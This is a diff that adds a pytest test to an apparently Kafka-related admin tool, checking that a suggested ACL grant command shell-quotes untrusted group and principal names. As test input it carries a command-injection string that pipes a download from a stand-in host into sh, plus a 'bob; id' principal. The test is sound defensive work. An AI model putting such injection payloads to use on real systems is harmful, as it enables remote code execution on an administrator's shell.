@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import json
 import re
+import shlex
 import socket
 import ssl
 import threading
@@ -15,6 +16,11 @@ from typing import Any
 
 import pytest
 
+from kgroups.admin.check_connection import _grant
+from kgroups.config.secret import Secret
+from kgroups.config.security import Password, Sasl, Security
+from kgroups.config.settings import ClientSettings
+from kgroups.model.permissions import Acl
 from tests.fakes.broker import FakeCluster, silence
 from tests.fakes.certificates import Certificates
 
@@ -344,3 +350,14 @@ def _free_port() -> int:
         probe.bind(("127.0.0.1", 0))
         port: int = probe.getsockname()[1]
         return port
+
+
+def test_a_suggested_command_is_quoted() -> None:
+    """A group's name is anybody's, and the command is for an administrator's shell."""
+    evil = "x; curl -s evil.example|sh #"
+    acl = Acl("DESCRIBE", "GROUP", evil)
+    who = Sasl("PLAIN", Password("bob; id", Secret("x")))
+    told = _grant(ClientSettings((("h", 1),), security=Security(None, who)), [acl]).partition(": ")[2]
+    words = shlex.split(told)
+    assert words[words.index("--group") + 1] == evil
+    assert words[words.index("--allow-principal") + 1] == "User:bob; id"
